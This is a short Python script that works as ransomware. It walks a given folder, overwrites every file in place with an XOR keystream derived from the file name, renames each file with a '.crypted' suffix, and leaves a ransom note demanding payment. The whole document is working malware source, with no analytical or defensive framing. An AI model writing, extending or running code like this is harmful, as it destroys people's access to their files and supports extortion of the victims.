"""Encrypts every file under a folder and renames it. usage: python3 encryptor.py DIR"""
import hashlib, os, sys

def stream(length, name):
    out = bytearray()
    counter = 0
    while len(out) < length:
        out += hashlib.sha256(b"%d %s" % (counter, name.encode())).digest()
        counter += 1
    return out[:length]

for folder, _, names in os.walk(sys.argv[1]):
    for name in names:
        path = os.path.join(folder, name)
        with open(path, "r+b") as file:
            data = file.read()
            file.seek(0)
            file.write(bytes(a ^ b for a, b in zip(data, stream(len(data), name))))
        os.rename(path, path + ".crypted")
with open(os.path.join(sys.argv[1], "README_DECRYPT.txt"), "w") as note:
    note.write("Your files are encrypted. Pay to get them back.\n")
